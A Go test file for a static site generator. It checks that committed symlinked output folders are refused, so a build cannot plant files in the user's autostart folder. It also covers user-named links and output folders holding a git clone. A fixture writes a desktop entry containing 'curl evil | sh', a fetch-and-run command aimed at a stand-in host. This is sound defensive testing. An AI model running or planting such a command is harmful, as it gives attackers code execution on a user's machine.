package main

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// runStopped runs tandem with args as runCmd does, but stops it (as
// Ctrl-C would) after a few seconds, for a serve that was not refused.
func runStopped(t *testing.T, args ...string) (code int, stderr string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	var out, errb syncBuffer
	e := env{stdout: &out, stderr: &errb, stdin: strings.NewReader(""), ctx: ctx, getenv: testEnv(nil)}
	return run(e, args), errb.String()
}

// attackSite copies the golden site into top/site with a static file an
// attacker would like to see land in ~/.config/autostart, and makes the
// user's autostart folder at top/home/.config/autostart. It returns the
// site folder and the autostart folder.
func attackSite(t *testing.T, top string) (site, autostart string) {
	t.Helper()
	site = filepath.Join(top, "site")
	if err := os.CopyFS(site, os.DirFS(goldenSite)); err != nil {
		t.Fatal(err)
	}
	writeTree(t, site, map[string]string{"content/static/evil.desktop": "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"})
	autostart = filepath.Join(top, "home", ".config", "autostart")
	writeTree(t, autostart, map[string]string{"user.desktop": "the user's own"})
	return site, autostart
}

// TestCommittedOutputLinkIsRefused: a repository that commits public (or
// .tandem, or .tandem/preview) as a symbolic link must not make tandem
// build or serve write the site where the link points. The command
// refuses with the link named and the way out, and the folder the link
// points at is left exactly as it was.
func TestCommittedOutputLinkIsRefused(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		link string // below the site
		args []string
	}{
		{"build, public", "public", []string{"build"}},
		{"build --preview, .tandem", ".tandem", []string{"build", "--preview"}},
		{"build --preview, .tandem/preview", ".tandem/preview", []string{"build", "--preview"}},
		{"serve, .tandem", ".tandem", []string{"serve", "--port", "0"}},
		{"serve, .tandem/preview", ".tandem/preview", []string{"serve", "--port", "0"}},
		{"serve --production, .tandem/production", ".tandem/production", []string{"serve", "--production", "--port", "0"}},
	}
	for _, tt := range tests {
		for _, dangling := range []bool{false, true} {
			name := tt.name
			if dangling {
				name += ", to a folder not made yet"
			}
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				top := t.TempDir()
				site, autostart := attackSite(t, top)
				target := autostart
				if dangling {
					target = filepath.Join(top, "home", ".config", "new")
				}
				link := filepath.Join(site, tt.link)
				if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
					t.Fatal(err)
				}
				mustLink(t, target, link)
				before := treeState(t, filepath.Join(top, "home"))
				args := append(append([]string(nil), tt.args...), "-s", site, "--now", "2026-11-01")
				code, errs := runStopped(t, args...)
				if code != exitUsage {
					t.Errorf("exit %d, want %d; stderr:\n%s", code, exitUsage, errs)
				}
				for _, want := range []string{link + " is a symbolic link", "remove the link", "-d " + link} {
					if !strings.Contains(errs, want) {
						t.Errorf("stderr lacks %q:\n%s", want, errs)
					}
				}
				if after := treeState(t, filepath.Join(top, "home")); after != before {
					t.Errorf("files changed where the link points:\n--- before\n%s--- after\n%s", before, after)
				}
				if info, err := os.Lstat(link); err != nil || info.Mode()&os.ModeSymlink == 0 {
					t.Errorf("the link was touched: %v %v", info, err)
				}
			})
		}
	}
}

// TestNamedOutputLinkIsHonoured: a link the user names with -d is theirs
// to choose; the site is written where it points and the link stays.
func TestNamedOutputLinkIsHonoured(t *testing.T) {
	t.Parallel()
	top := t.TempDir()
	site, _ := attackSite(t, top)
	target := filepath.Join(top, "www")
	link := filepath.Join(site, "public")
	mustLink(t, target, link)
	code, _, errs := runCmd(t, "build", "-s", site, "-d", link, "--now", "2026-11-01")
	if code != exitOK {
		t.Fatalf("exit %d; stderr:\n%s", code, errs)
	}
	if _, err := os.Stat(filepath.Join(target, "posts/kennenlernen/index.html")); err != nil {
		t.Error(err)
	}
	if info, err := os.Lstat(link); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the link was replaced: %v %v", info, err)
	}
}

// TestOutputGitCloneIsKept: an output folder that someone made a git
// clone of (to publish it) holds a .git tandem did not write. The build
// refuses to replace the folder, says why, and deletes nothing.
func TestOutputGitCloneIsKept(t *testing.T) {
	t.Parallel()
	top := t.TempDir()
	site, _ := attackSite(t, top)
	dest := filepath.Join(top, "out")
	if code, _, errs := runCmd(t, "build", "-s", site, "-d", dest, "--now", "2026-11-01"); code != exitOK {
		t.Fatalf("first build: exit %d; stderr:\n%s", code, errs)
	}
	writeTree(t, dest, map[string]string{".git/config": "[remote \"origin\"]\n", ".git/objects/ab/cdef": "history"})
	before := treeState(t, top)
	code, _, errs := runCmd(t, "build", "-s", site, "-d", dest, "--now", "2026-11-02")
	if code != exitContent {
		t.Errorf("exit %d, want %d; stderr:\n%s", code, exitContent, errs)
	}
	for _, want := range []string{"holds .git, which tandem did not write", dest + " is unchanged"} {
		if !strings.Contains(errs, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errs)
		}
	}
	if after := treeState(t, top); after != before {
		t.Errorf("files changed:\n--- before\n%s--- after\n%s", before, after)
	}
}
